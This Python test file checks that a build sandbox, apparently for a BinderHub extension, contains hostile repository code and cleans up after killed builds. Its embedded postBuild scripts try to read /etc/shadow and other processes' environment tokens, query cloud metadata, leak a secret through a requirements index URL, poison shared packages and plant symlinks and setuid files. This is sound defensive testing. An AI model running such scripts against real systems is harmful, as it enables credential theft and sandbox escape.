"""What a repository's code can reach during a build, and what a kill leaves behind."""

from __future__ import annotations

import asyncio
import json
import os
import pickle
import re
import shutil
import signal
import socket
import subprocess
import sys
import time
from hashlib import sha256
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hostile import EVIL_MODULE, IMPORTED, dishonest_bytecode
from metadata import ADDRESS, SECRET, cloud_metadata
from patience import wait_until
from processlist import processes
from small_repositories import Built, MakeSource, build

import binderhub_ext
from binderhub_ext.core.errors import BuildFailed, NoSpace
from binderhub_ext.engines.local.build import LocalBuilder
from binderhub_ext.engines.local.buildsandbox import BUILD_UID
from binderhub_ext.engines.local.network import Network
from binderhub_ext.engines.local.supervised import beside, in_thread, supervised
from binderhub_ext.repos.base import Source

ROOT = os.geteuid() == 0
pytestmark = pytest.mark.skipif(
    not shutil.which("bwrap"), reason="bubblewrap is missing: apt-get install bubblewrap"
)

HERE = Path(__file__).parent
LIBRARIES = Path(binderhub_ext.__file__).parent.parent

POISON = """#!/usr/bin/env python3
import os, pathlib, sys
site = next(pathlib.Path(sys.prefix).glob("lib/python3.*/site-packages"))
shared = site / "six.py"
def tried(name, action):
    try:
        action()
    except OSError as error:
        print(name, "refused", error.strerror)
    else:
        print(name, "done")
tried("append", lambda: shared.open("a").write("poisoned = True"))
tried("mode", lambda: shared.chmod(0o666))
def replace():
    text = shared.read_text()
    shared.unlink()
    shared.write_text(text + "poisoned = True")
tried("replace", replace)
"""


def six(builder: LocalBuilder, built: Built) -> Path:
    return next(builder.store.path(built.image.name).glob("lib/*/site-packages/six.py"))


def digests(folder: Path) -> dict[str, str]:
    files = (path for path in folder.rglob("*.py") if path.is_file())
    return {str(path): sha256(path.read_bytes()).hexdigest() for path in files}


async def test_nobody_elses_files_can_be_poisoned(
    repository: MakeSource, builder: LocalBuilder
) -> None:
    wanted = {"requirements.txt": "six==1.16.0"}
    other = await build(builder, repository(wanted))
    before = digests(builder.cache)
    poisoned = await build(builder, repository({**wanted, "postBuild": POISON}))
    assert "replace done" in poisoned.log
    if ROOT:
        assert "append refused" in poisoned.log
        assert "mode refused" in poisoned.log
    assert "poisoned" in six(builder, poisoned).read_text()
    assert "poisoned" not in six(builder, other).read_text()
    assert digests(builder.cache) == before


LOOK = """#!/usr/bin/env python3
import os, socket, urllib.request
for path in {paths!r}:
    try:
        print("READ", path, os.listdir(path) if os.path.isdir(path) else open(path).read())
    except OSError as error:
        print("refused", path, error.strerror)
for path in {writes!r}:
    try:
        open(os.path.join(path, "planted"), "w").close()
        print("WROTE", path)
    except OSError as error:
        print("refused", path, error.strerror)
for entry in filter(str.isdigit, os.listdir("/proc")):
    try:
        if b"{marker}" in open(f"/proc/{{entry}}/environ", "rb").read():
            print("SAW", entry)
    except OSError as error:
        print("refused", entry, error.strerror)
print("VARIABLES", sorted(os.environ))
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3)
    print("CONNECTED")
except OSError as error:
    print("refused connection", error)
for name in ("id_token", "{marker}"):
    print("HAS", name) if name in str(os.environ) else None
"""


async def test_nothing_of_the_hub_is_in_reach(
    repository: MakeSource, builder: LocalBuilder, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    marker = f"secret-{os.getpid()}"
    monkeypatch.setenv("JUPYTERHUB_API_TOKEN", marker)
    monkeypatch.setenv("PIP_EXTRA_INDEX_URL", f"https://user:{marker}@127.0.0.1:9/simple")
    secrets = builder.layout.secrets
    secrets.mkdir(exist_ok=True)
    (secrets / "ticket").write_text(marker)
    other = await build(builder, repository({}))
    server = socket.create_server(("127.0.0.1", 0))
    script = LOOK.format(
        paths=[
            str(secrets / "ticket"),
            str(builder.cache),
            str(builder.layout.homes),
            str(builder.store.path(other.image.name)),
            "/root/.bashrc",
            "/etc/shadow",
            "/proc/1/root/root",
            str(tmp_path),
        ],
        writes=["/", "/usr", "/etc", "/srv", str(builder.store.root)],
        marker=marker,
        port=server.getsockname()[1],
    )
    with server:
        built = await build(builder, repository({"postBuild": script}))
    for word in ("READ", "WROTE", "SAW", "CONNECTED", "HAS", marker, "JUPYTERHUB"):
        assert not [line for line in built.log.splitlines() if word in line], built.log


ASK = f"""#!/usr/bin/env python3
import urllib.request
try:
    print("GOT", urllib.request.urlopen("http://{ADDRESS}", timeout=10).read())
except OSError as error:
    print("refused", error)
"""


async def test_a_build_does_not_reach_cloud_metadata(
    repository: MakeSource, builder: LocalBuilder, data: Path
) -> None:
    """Where clouds tell a machine its secrets, unless an administrator allows it."""
    if builder.network != Network.PRIVATE:
        pytest.skip("pasta is not installed, so builds have no network")
    with cloud_metadata():
        held = await build(builder, repository({"postBuild": ASK}))
        opened = LocalBuilder(data_dir=str(data), allowed_networks=[f"{ADDRESS}/32"])
        free = await build(opened, repository({"postBuild": f"{ASK}# once more\n"}))
    assert SECRET in free.log and "refused" not in free.log
    assert "refused" in held.log and SECRET not in held.log


async def test_an_index_with_a_password_is_not_in_the_trusted_step_of_strangers(
    repository: MakeSource, builder: LocalBuilder, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A line of a requirements file can name any variable and any address: uv expands it."""
    monkeypatch.setenv("HUB_SECRET", "wxyz")
    line = "--extra-index-url https://${HUB_SECRET}.invalid/simple\nno-such-package-anywhere-2"
    with pytest.raises(BuildFailed) as caught:
        await build(builder, repository({"requirements.txt": line}))
    assert "wxyz" not in caught.value.message + caught.value.detail


TRICKS = """#!/usr/bin/env python3
import os, sys
os.chdir(sys.prefix)
os.symlink("{outside}", "share/outside")
os.rename("lib", "real-lib")
os.symlink("{outside}", "lib")
os.mkdir(".binder")
open(".binder/image.json", "w").write("{{}}")
"""


async def test_links_planted_in_an_environment_lead_nowhere(
    repository: MakeSource, builder: LocalBuilder, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "file").write_text("x")
    outside.chmod(0o777)
    with pytest.raises(BuildFailed):
        await build(builder, repository({"postBuild": TRICKS.format(outside=outside)}))
    assert [path.name for path in outside.iterdir()] == ["file"]


async def test_setuid_files_do_not_stay(repository: MakeSource, builder: LocalBuilder) -> None:
    script = "#!/bin/sh\ncp /bin/true $VIRTUAL_ENV/bin/mine; chmod 6755 $VIRTUAL_ENV/bin/mine\n"
    built = await build(builder, repository({"postBuild": script}))
    mode = (builder.store.path(built.image.name) / "bin" / "mine").stat().st_mode
    assert mode & 0o7777 == 0o555


async def test_a_build_is_limited(repository: MakeSource, data: Path) -> None:
    builder = LocalBuilder(data_dir=str(data), build_memory=300 << 20)
    script = "#!/usr/bin/env python3\nx = bytearray(2 << 30)\nprint('got it')\n"
    with pytest.raises(BuildFailed) as caught:
        await build(builder, repository({"postBuild": script}))
    assert "got it" not in caught.value.detail


def run_build(
    data: Path, source: Source, prefix: list[str], python: str = sys.executable, **options: object
) -> subprocess.Popen[str]:
    """A builder in a process of its own."""
    job = pickle.dumps((str(data), source, options)).hex()
    paths = [str(HERE), str(LIBRARIES), *(path for path in sys.path if "site-packages" in path)]
    return subprocess.Popen(
        [*prefix, python, str(HERE / "build_once.py"), job],
        stdin=subprocess.DEVNULL,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(paths), "HOME": str(data)},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        cwd="/",
    )


async def test_a_killed_build_is_repeated(
    repository: MakeSource, builder: LocalBuilder, data: Path
) -> None:
    marker = f"87654.{os.getpid()}"
    wait = f"#!/bin/sh\n[ -e /srv/repo/go ] || sleep {marker}\n"
    source = repository({"postBuild": wait})
    process = run_build(data, source, [])
    environment = await builder.plan(source)
    while not processes("sleep", marker):
        await asyncio.sleep(0.1)
        assert process.poll() is None
    process.send_signal(signal.SIGKILL)
    process.communicate()
    await asyncio.to_thread(wait_until, lambda: not processes("sleep", marker), "it runs on")
    assert builder.store.path(environment.key).exists()
    assert await builder.find(environment) is None
    await builder.collect_garbage()
    assert not builder.store.path(environment.key).exists()
    assert not list(builder.store.scratch.iterdir())


async def test_a_build_ends_whole_however_often_it_is_cancelled() -> None:
    ended = []

    async def work() -> None:
        try:
            await asyncio.sleep(60)
        finally:
            await asyncio.shield(asyncio.sleep(0.3))
            ended.append(True)

    task = asyncio.create_task(supervised(work(), lambda: None))
    for _ in range(3):
        await asyncio.sleep(0.05)
        task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert ended


async def test_a_build_that_comes_to_a_limit_is_ended_and_told_why() -> None:
    steps: list[str] = []

    async def work() -> None:
        try:
            await asyncio.sleep(60)
        finally:
            steps.append("cleaned up")
            raise BuildFailed("What is ended fails in its own way.")

    def check() -> None:
        steps.append("looked")
        if len(steps) == 2:
            raise NoSpace("The disk filled up.")

    with pytest.raises(NoSpace):
        await supervised(work(), check)
    assert steps == ["looked", "looked", "cleaned up"]


@pytest.mark.parametrize(("quick", "slow"), [("work", "block"), ("block", "work")])
async def test_what_is_done_at_once_ends_with_what_fails_first(quick: str, slow: str) -> None:
    steps: list[str] = []

    async def fail(name: str) -> None:
        try:
            await asyncio.sleep(0.05 if name == quick else 60)
        finally:
            steps.append(name)
            raise BuildFailed(f"{name} fails, as all does that is ended.")

    with pytest.raises(BuildFailed, match=f"{quick} fails"):
        async with beside(fail("work")):
            await fail("block")
    assert steps == [quick, slow]


async def test_what_a_thread_writes_is_whole_when_its_build_has_ended() -> None:
    """Otherwise it would go on writing while the build's files are removed."""
    written = []

    def write() -> None:
        time.sleep(0.3)
        written.append(True)

    task = asyncio.create_task(in_thread(write))
    for _ in range(3):
        await asyncio.sleep(0.05)
        task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert written


async def test_what_is_cached_builds_without_network(
    repository: MakeSource, builder: LocalBuilder, data: Path
) -> None:
    await build(builder, repository({"requirements.txt": "six==1.16.0"}))
    offline = ["bwrap", "--dev-bind", "/", "/", "--unshare-net"]
    if await asyncio.to_thread(subprocess.call, [*offline, "true"]):
        pytest.skip("this machine cannot make a network namespace")
    source = repository({"requirements.txt": "six >= 1.16, < 1.16.1"})
    process = run_build(data, source, offline, network="none")
    text, _ = await asyncio.to_thread(process.communicate)
    assert "IMAGE" in text, text
    missing = repository({"requirements.txt": "colorama==0.4.5"})
    process = run_build(data, missing, offline, network="none")
    text, _ = await asyncio.to_thread(process.communicate)
    assert "could not be reached" in text or "colorama" in text


async def test_as_an_ordinary_user(repository: MakeSource) -> None:
    """The whole of it, and the poisoning, with the Hub as an unprivileged uid."""
    if not ROOT:
        pytest.skip("the other tests ran as an ordinary user already")
    if not Path("/usr/bin/python3").exists() or sys.version_info[:2] != _version(
        "/usr/bin/python3"
    ):
        pytest.skip("needs a Python outside of root's home of the same version as this one")
    with TemporaryDirectory(prefix="bu-", ignore_cleanup_errors=True) as folder:
        os.chown(folder, 65000, 65000)
        # The first has no configuration: the others begin from its environment.
        sources = [
            repository(dict.fromkeys(IMPORTED, EVIL_MODULE)),
            repository({"requirements.txt": "six==1.16.0"}),
            repository({"requirements.txt": "six==1.16.0", "postBuild": POISON}),
            repository({"requirements.txt": "docopt==0.6.2"}),
        ]
        os.chmod(sources[0].bundle.parent.parent, 0o755)  # noqa: PTH101
        texts = [await _as_user(Path(folder), source) for source in sources]
        assert all("IMAGE" in text for text in texts), texts
        assert "append refused" in texts[2] or "append done" in texts[2]
        assert "Built docopt" in texts[3]
        caches = (Path(folder) / "environments" / ".cache").rglob("six.py")
        assert all("poisoned" not in file.read_text() for file in caches)
        kept = Path(folder) / "environments"
        model = re.findall(r"^IMAGE (\w+)$", texts[0], re.MULTILINE)[0]
        assert not dishonest_bytecode(kept / model)
        names = list(kept.glob("[0-9a-f]*/lib/*/site-packages/six.py"))
        assert sum("poisoned" in file.read_text() for file in names) == 1


def _version(python: str) -> tuple[int, ...]:
    code = "import json, sys; print(json.dumps(sys.version_info[:2]))"
    return tuple(json.loads(subprocess.check_output([python, "-c", code])))


async def _as_user(data: Path, source: Source) -> str:
    """Build as uid 65000, from copies of what that uid cannot reach otherwise."""
    bundle = data / f"{source.commit.id}.bundle"
    shutil.copyfile(source.bundle, bundle)
    bundle.chmod(0o644)
    readable = Source(source.commit, bundle, source.tree)
    prefix = ["setpriv", "--reuid", "65000", "--regid", "65000", "--clear-groups", "--"]
    process = run_build(data, readable, prefix, "/usr/bin/python3")
    return (await asyncio.to_thread(process.communicate))[0]


def test_the_uid_of_builds_is_nobodys() -> None:
    import pwd

    with pytest.raises(KeyError):
        pwd.getpwuid(BUILD_UID)
